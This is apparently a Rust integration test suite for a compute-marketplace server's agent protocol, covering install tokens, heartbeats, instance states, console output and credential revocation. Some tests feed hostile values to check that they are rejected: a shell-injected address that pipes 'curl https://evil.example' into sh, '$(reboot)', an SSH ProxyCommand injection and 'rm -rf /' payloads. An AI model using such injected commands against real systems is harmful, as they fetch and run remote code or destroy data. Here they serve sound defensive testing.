//! The agent protocol: install tokens traded for host credentials,
//! heartbeats carrying capacity and observed instances, and hosts going
//! offline when they fall silent.

mod common;

use axum::http::StatusCode;
use common::{Seller, TestApp};
use serde_json::{Value, json};

const HOST: (u32, u32, u32) = (8, 16, 200);

#[tokio::test]
async fn a_fresh_token_registers_a_host_once() {
    let app = TestApp::new().await;
    let seller = app.seller_account("s@example.com").await;
    let token = app.install_token(&seller, "eu-west-1a").await;
    assert!(
        token.starts_with("sc_it_") && token.len() >= 6 + 32,
        "at least 128 random bits"
    );

    let (host_id, credential) = app.register_host(&token, "rack-1", HOST).await;
    assert!(credential.starts_with("sc_h_"));
    let hosts = app
        .send("GET", "/api/v1/seller/hosts", Some(&seller), None)
        .await
        .json();
    assert_eq!(hosts[0]["id"], host_id.as_str());
    assert_eq!(hosts[0]["status"], "online");
    assert_eq!(hosts[0]["zone"], "eu-west-1a");
    assert_eq!(
        hosts[0]["capacity"],
        serde_json::json!({"vcpu": 8, "ram_gib": 16, "disk_gib": 200})
    );

    let again = app.register_raw(&token, "rack-2", HOST).await;
    assert_eq!(again.status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        again.json()["type"],
        "https://sparecloud.dev/problems/install-token-used"
    );

    let tokens = app
        .send("GET", "/api/v1/seller/install-tokens", Some(&seller), None)
        .await
        .json();
    assert_eq!(tokens[0]["status"], "used");
    assert_eq!(tokens[0]["host_id"], host_id.as_str());
}

#[tokio::test]
async fn expired_revoked_and_unknown_tokens_are_refused_each_with_its_own_type() {
    let app = TestApp::new().await;
    let seller = app.seller_account("s@example.com").await;

    let unknown = app.register_raw("sc_it_0000", "rack", HOST).await;
    assert_eq!(unknown.status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        unknown.json()["type"],
        "https://sparecloud.dev/problems/install-token-invalid"
    );

    let revoked = app.install_token(&seller, "eu-west-1a").await;
    let tokens = app
        .send("GET", "/api/v1/seller/install-tokens", Some(&seller), None)
        .await
        .json();
    let id = tokens[0]["id"].as_str().unwrap();
    let res = app
        .send(
            "DELETE",
            &format!("/api/v1/seller/install-tokens/{id}"),
            Some(&seller),
            None,
        )
        .await;
    assert_eq!(res.status, StatusCode::OK);
    assert_eq!(res.json()["status"], "revoked");
    let res = app.register_raw(&revoked, "rack", HOST).await;
    assert_eq!(res.status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        res.json()["type"],
        "https://sparecloud.dev/problems/install-token-revoked"
    );

    let expiring = app.install_token(&seller, "eu-west-1a").await;
    app.state.clock.advance(24 * 3600 * 1000);
    let res = app.register_raw(&expiring, "rack", HOST).await;
    assert_eq!(res.status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        res.json()["type"],
        "https://sparecloud.dev/problems/install-token-expired"
    );
    let tokens = app
        .send("GET", "/api/v1/seller/install-tokens", Some(&seller), None)
        .await
        .json();
    let statuses: Vec<&str> = tokens
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["status"].as_str().unwrap())
        .collect();
    assert_eq!(statuses, ["expired", "revoked"]);
}

#[tokio::test]
async fn install_tokens_are_stored_hashed_and_shown_once() {
    let app = TestApp::new().await;
    let seller = app.seller_account("s@example.com").await;
    let res = app
        .post(
            "/api/v1/seller/install-tokens",
            Some(&seller),
            serde_json::json!({"label": "rack 9", "zone": "eu-west-1a", "expires_in_hours": 2}),
        )
        .await;
    assert_eq!(res.status, StatusCode::CREATED);
    let body = res.json();
    let secret = body["secret"].as_str().unwrap();
    let command = body["install_command"].as_str().unwrap();
    assert!(
        command.starts_with("sparecloud-agent register --api http://"),
        "{command}"
    );
    assert!(command.contains(secret));
    let list = app
        .send("GET", "/api/v1/seller/install-tokens", Some(&seller), None)
        .await;
    assert!(
        !list.text().contains(secret),
        "the list never shows the secret"
    );
    let (hash,): (String,) = sqlx::query_as("SELECT token_hash FROM install_tokens")
        .fetch_one(&app.state.db)
        .await
        .unwrap();
    assert!(!hash.contains(&secret[6..]));

    let bad = app
        .post(
            "/api/v1/seller/install-tokens",
            Some(&seller),
            serde_json::json!({"label": "", "zone": "EU WEST", "expires_in_hours": 1000}),
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(bad.json()["errors"].as_array().unwrap().len(), 3);
}

#[tokio::test]
async fn heartbeats_move_instances_and_report_desired_state() {
    let app = TestApp::new().await;
    let (seller, offer, buyer, card) = app.shop(HOST, 360).await;
    let order = app.buy(&buyer, &card, &offer, "s1.small", 1).await.json();
    let id = order["instances"][0]["id"].as_str().unwrap().to_owned();

    let beat = app.heartbeat(&seller.host_credential, HOST, &[]).await;
    assert_eq!(beat.status, StatusCode::OK);
    let desired = beat.json();
    assert_eq!(desired["heartbeat_interval_secs"], 5);
    assert_eq!(desired["instances"][0]["id"], id.as_str());
    assert_eq!(desired["instances"][0]["state"], "running");
    assert_eq!(
        desired["instances"][0]["ssh_public_key"],
        common::ED25519_KEY
    );

    let status = |app: &TestApp, buyer: &str, id: &str| {
        let (app, buyer, id) = (app.clone(), buyer.to_owned(), id.to_owned());
        async move { app.instance_detail(&buyer, &id).await }
    };
    app.heartbeat(&seller.host_credential, HOST, &[(&id, "provisioning")])
        .await;
    assert_eq!(
        status(&app, &buyer, &id).await["instance"]["status"],
        "provisioning"
    );
    app.heartbeat(&seller.host_credential, HOST, &[(&id, "running")])
        .await;
    let detail = status(&app, &buyer, &id).await;
    assert_eq!(detail["instance"]["status"], "running");
    assert_eq!(detail["instance"]["address"], "198.51.100.7");

    // An hour of running costs the hourly price.
    app.state.clock.advance(3_600_000);
    assert_eq!(
        status(&app, &buyer, &id).await["instance"]["cost_so_far_cents"],
        360
    );

    let res = app.instance_action(&buyer, &id, "terminate").await;
    assert_eq!(res.status, StatusCode::OK);
    let desired = app
        .heartbeat(&seller.host_credential, HOST, &[(&id, "running")])
        .await
        .json();
    assert_eq!(desired["instances"][0]["state"], "terminated");
    app.heartbeat(&seller.host_credential, HOST, &[(&id, "terminated")])
        .await;
    let detail = status(&app, &buyer, &id).await;
    assert_eq!(detail["instance"]["status"], "terminated");
    let kinds = common::event_kinds(&detail);
    assert_eq!(
        kinds,
        [
            "created",
            "provisioning",
            "running",
            "terminate_requested",
            "terminated"
        ]
    );
    assert_eq!(
        app.allocated(&seller.host_id).await,
        (0, 0, 0),
        "capacity is free again"
    );
    let desired = app
        .heartbeat(&seller.host_credential, HOST, &[])
        .await
        .json();
    assert_eq!(desired["instances"].as_array().unwrap().len(), 0);
}

#[tokio::test]
async fn a_silent_host_goes_offline_after_three_intervals_and_back_online_on_its_next_heartbeat() {
    let app = TestApp::new().await;
    let (seller, offer) = app.gold_offer(HOST, 100).await;
    let listed = || async { app.get("/api/v1/offers").await.json()["total"].clone() };
    assert_eq!(listed().await, 1);

    app.state.clock.advance(14_000);
    assert!(
        sparecloud_server::domain::agents::mark_silent_hosts_offline(&app.state)
            .await
            .unwrap()
            .is_empty()
    );
    app.state.clock.advance(2_000);
    let offline = sparecloud_server::domain::agents::mark_silent_hosts_offline(&app.state)
        .await
        .unwrap();
    assert_eq!(offline, std::slice::from_ref(&seller.host_id));
    let hosts = app
        .send("GET", "/api/v1/seller/hosts", Some(&seller.token), None)
        .await
        .json();
    assert_eq!(hosts[0]["status"], "offline");
    assert_eq!(listed().await, 0, "an offline host's capacity is not sold");
    assert_eq!(
        app.get(&format!("/api/v1/offers/{offer}")).await.json()["prices"],
        serde_json::json!([])
    );

    app.state.clock.advance(60_000);
    assert_eq!(
        app.heartbeat(&seller.host_credential, HOST, &[])
            .await
            .status,
        StatusCode::OK
    );
    let hosts = app
        .send("GET", "/api/v1/seller/hosts", Some(&seller.token), None)
        .await
        .json();
    assert_eq!(hosts[0]["status"], "online");
    assert!(
        hosts[0]["uptime_bp"].as_u64().unwrap() < 10_000,
        "the outage counts against uptime"
    );
    assert_eq!(listed().await, 1);
}

/// Two sellers with a host each in eu-west-1a, and a buyer's order of one
/// s1.small from the first.
struct Ordered {
    seller: Seller,
    other: Seller,
    buyer: String,
    id: String,
}

async fn ordered(app: &TestApp) -> Ordered {
    let (seller, offer, buyer, card) = app.shop(HOST, 100).await;
    let other = app
        .seller_with_host("t@example.com", "eu-west-1a", HOST)
        .await;
    let order = app.buy(&buyer, &card, &offer, "s1.small", 1).await.json();
    let id = order["instances"][0]["id"].as_str().unwrap().to_owned();
    Ordered {
        seller,
        other,
        buyer,
        id,
    }
}

#[tokio::test]
async fn heartbeats_need_a_valid_host_credential_and_only_touch_that_hosts_instances() {
    let app = TestApp::new().await;
    let res = app.heartbeat("sc_h_forged", HOST, &[]).await;
    assert_eq!(res.status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        res.json()["type"],
        "https://sparecloud.dev/problems/host-credential-invalid"
    );

    let Ordered {
        other, buyer, id, ..
    } = ordered(&app).await;
    let id = id.as_str();
    // Another seller's agent cannot move this instance.
    app.heartbeat(&other.host_credential, HOST, &[(id, "terminated")])
        .await;
    let detail = app.instance_detail(&buyer, id).await;
    assert_eq!(detail["instance"]["status"], "pending");
}

#[tokio::test]
async fn heartbeats_say_how_the_host_runs_instances_and_the_seller_sees_it() {
    let app = TestApp::new().await;
    let seller = app
        .seller_with_host("s@example.com", "eu-west-1a", HOST)
        .await;
    let heartbeat = |hypervisor: serde_json::Value| {
        let app = app.clone();
        let credential = seller.host_credential.clone();
        async move {
            app.heartbeat_with(
                &credential,
                HOST,
                serde_json::json!({"hypervisor": hypervisor}),
            )
            .await
        }
    };
    let hosts = || {
        let app = app.clone();
        let token = seller.token.clone();
        async move {
            app.send("GET", "/api/v1/seller/hosts", Some(&token), None)
                .await
                .json()
        }
    };
    // An older agent says nothing: nothing is shown.
    assert!(hosts().await[0].get("hypervisor").is_none());

    let res = heartbeat(serde_json::json!({"driver": "qemu", "accel": "tcg"})).await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
    assert_eq!(
        hosts().await[0]["hypervisor"],
        serde_json::json!({"driver": "qemu", "accel": "tcg"})
    );

    // Whatever else an agent sends is refused and changes nothing.
    let res = heartbeat(serde_json::json!({"driver": "xen", "accel": "tcg"})).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    let res = heartbeat(serde_json::json!({"driver": "qemu", "accel": "<script>"})).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(hosts().await[0]["hypervisor"]["accel"], "tcg");

    // A simulation has no accelerator.
    heartbeat(serde_json::json!({"driver": "sim"})).await;
    assert_eq!(
        hosts().await[0]["hypervisor"],
        serde_json::json!({"driver": "sim"})
    );
}

#[tokio::test]
async fn the_buyer_reads_the_console_its_host_sent_and_no_one_else_writes_or_reads_it() {
    let app = TestApp::new().await;
    let Ordered {
        seller,
        other,
        buyer,
        id,
    } = ordered(&app).await;
    let id = id.as_str();
    let stranger = app.sign_up("x@example.com", &["buyer"]).await;
    let console = |token: String| {
        let app = app.clone();
        let path = format!("/api/v1/instances/{id}/console");
        async move { app.send("GET", &path, Some(&token), None).await }
    };
    let send = |credential: String, output: String| {
        let app = app.clone();
        let id = id.to_owned();
        async move {
            let instances =
                serde_json::json!([{"id": id, "state": "provisioning", "console": output}]);
            app.heartbeat_with(
                &credential,
                HOST,
                serde_json::json!({"instances": instances}),
            )
            .await
        }
    };

    // Nothing yet.
    let res = console(buyer.clone()).await;
    assert_eq!(res.status, StatusCode::OK);
    assert_eq!(res.json()["output"], "");
    assert!(res.json()["updated_at"].is_null());

    // The host sends its console: the buyer reads it, cleaned.
    let res = send(
        seller.host_credential.clone(),
        "Linux version 6.1\r\n\u{1b}[1msparecloud: ready\u{1b}[0m\n".into(),
    )
    .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
    let read = console(buyer.clone()).await.json();
    assert_eq!(
        read["output"],
        "Linux version 6.1\n[1msparecloud: ready[0m\n"
    );
    assert!(read["updated_at"].is_string());

    // Another seller's host cannot write it; another buyer cannot read it.
    send(other.host_credential.clone(), "forged".into()).await;
    assert_eq!(
        console(buyer.clone()).await.json()["output"],
        "Linux version 6.1\n[1msparecloud: ready[0m\n"
    );
    assert_eq!(console(stranger).await.status, StatusCode::NOT_FOUND);

    // At most the last 64 KiB is kept, even of a larger heartbeat.
    let long = format!("{}\nthe end\n", "x".repeat(200 * 1024));
    let res = send(seller.host_credential.clone(), long).await;
    assert_eq!(res.status, StatusCode::OK);
    let kept = console(buyer).await.json()["output"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(kept.len() <= 64 * 1024);
    assert!(kept.ends_with("the end\n"));
}

#[tokio::test]
async fn a_host_that_says_which_images_it_runs_is_only_given_those() {
    let app = TestApp::new().await;
    let (seller, offer) = app.gold_offer(HOST, 100).await;
    let buyer = app.sign_up("b@example.com", &["buyer"]).await;
    let images = |list: serde_json::Value| {
        let app = app.clone();
        let credential = seller.host_credential.clone();
        async move {
            app.heartbeat_with(&credential, HOST, serde_json::json!({"images": list}))
                .await
        }
    };
    let quote = |image: &'static str| {
        let app = app.clone();
        let (buyer, offer) = (buyer.clone(), offer.clone());
        async move {
            app.post(
                "/api/v1/quotes",
                Some(&buyer),
                serde_json::json!({"offer_id": offer, "image_id": image, "sla_tier": "gold",
                    "flavor_id": "s1.small", "count": 1}),
            )
            .await
        }
    };
    // Saying nothing (a simulation, an older agent): any image.
    assert_eq!(quote("debian-12").await.status, StatusCode::CREATED);

    let res = images(serde_json::json!(["sparecloud-test"])).await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
    let refused = quote("debian-12").await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        common::error_fields(&refused.json()),
        ["image_id"],
        "{}",
        refused.text()
    );
    assert!(refused.text().contains("cannot run Debian 12"));
    assert_eq!(quote("sparecloud-test").await.status, StatusCode::CREATED);

    // Nonsense is refused and changes nothing.
    let bad = images(serde_json::json!(["Debian 12; rm -rf /"])).await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(quote("sparecloud-test").await.status, StatusCode::CREATED);
}

/// What an agent reports reaches buyers (the SSH command they copy) and
/// sums over hosts: a hostile or broken agent is refused, nothing stored.
#[tokio::test]
async fn agent_reported_fields_are_validated_before_they_are_stored() {
    let app = TestApp::new().await;
    let (seller, offer, buyer, card) = app.shop((8, 16, 200), 120).await;
    let order = app.buy(&buyer, &card, &offer, "s1.small", 1).await.json();
    let id = order["instances"][0]["id"].as_str().unwrap().to_owned();
    let host = (8, 16, 200);

    for address in [
        "198.51.100.7; curl https://evil.example | sh",
        "$(reboot)",
        "198.51.100.7 -oProxyCommand=sh",
    ] {
        let res = app
            .heartbeat_with(
                &seller.host_credential,
                host,
                json!({"instances": [{"id": id, "state": "running", "address": address}]}),
            )
            .await;
        assert_eq!(
            res.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{address}: {}",
            res.text()
        );
        assert_eq!(res.json()["errors"][0]["field"], "instances[0].address");
        assert!(
            !res.text().contains("evil.example"),
            "the value is not echoed"
        );
    }
    let detail = app.instance_detail(&buyer, &id).await;
    assert_eq!(detail["instance"]["status"], "pending", "nothing stored");
    assert_eq!(detail["instance"]["address"], Value::Null);

    let res = app
        .heartbeat_with(
            &seller.host_credential,
            host,
            json!({"agent_version": "1.0; rm -rf /"}),
        )
        .await;
    assert_eq!(
        res.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        res.text()
    );
    let res = app
        .heartbeat_with(&seller.host_credential, (u32::MAX, 16, 200), json!({}))
        .await;
    assert_eq!(
        res.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        res.text()
    );
    let token = app.install_token(&seller.token, "eu-west-1a").await;
    let res = app.register_raw(&token, "huge", (u32::MAX, 16, 200)).await;
    assert_eq!(
        res.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        res.text()
    );

    // A plain address goes through and makes the SSH command.
    let res = app
        .heartbeat_with(
            &seller.host_credential,
            host,
            json!({"instances": [{"id": id, "state": "running", "address": "198.51.100.7:2222"}]}),
        )
        .await;
    assert_eq!(res.status, StatusCode::OK, "{}", res.text());
    let detail = app.instance_detail(&buyer, &id).await;
    assert_eq!(detail["instance"]["address"], "198.51.100.7:2222");
}

/// A seller revokes a host's credential: the agent is refused with that
/// reason (not "unknown"), the host goes offline like any silent host, and
/// no one else can revoke it.
#[tokio::test]
async fn a_seller_revokes_a_hosts_credential_and_the_agent_is_told_why() {
    let app = TestApp::new().await;
    let Ordered {
        seller, other, id, ..
    } = ordered(&app).await;
    let revoke = |token: String, host: String| {
        let app = app.clone();
        async move {
            app.send(
                "POST",
                &format!("/api/v1/seller/hosts/{host}/revoke-credential"),
                Some(&token),
                None,
            )
            .await
        }
    };
    // Not another seller's to revoke.
    let refused = revoke(other.token.clone(), seller.host_id.clone()).await;
    assert_eq!(refused.status, StatusCode::NOT_FOUND);
    assert_eq!(
        app.heartbeat(&seller.host_credential, HOST, &[(&id, "running")])
            .await
            .status,
        StatusCode::OK
    );

    let revoked = revoke(seller.token.clone(), seller.host_id.clone()).await;
    assert_eq!(revoked.status, StatusCode::OK, "{}", revoked.text());
    assert!(revoked.json()["credential_revoked_at"].is_string());
    let res = app.heartbeat(&seller.host_credential, HOST, &[]).await;
    assert_eq!(res.status, StatusCode::UNAUTHORIZED);
    let problem = res.json();
    assert_eq!(
        problem["type"],
        "https://sparecloud.dev/problems/host-credential-revoked"
    );
    let detail = problem["detail"].as_str().unwrap();
    assert!(
        detail.contains("revoked") && detail.contains("new install token"),
        "{detail}"
    );

    // Silent from now on: offline after three intervals, while the other
    // host, still heartbeating, stays online.
    app.state.clock.advance(16_000);
    assert_eq!(
        app.heartbeat(&other.host_credential, HOST, &[])
            .await
            .status,
        StatusCode::OK
    );
    let offline = sparecloud_server::domain::agents::mark_silent_hosts_offline(&app.state)
        .await
        .unwrap();
    assert_eq!(offline, std::slice::from_ref(&seller.host_id));
}
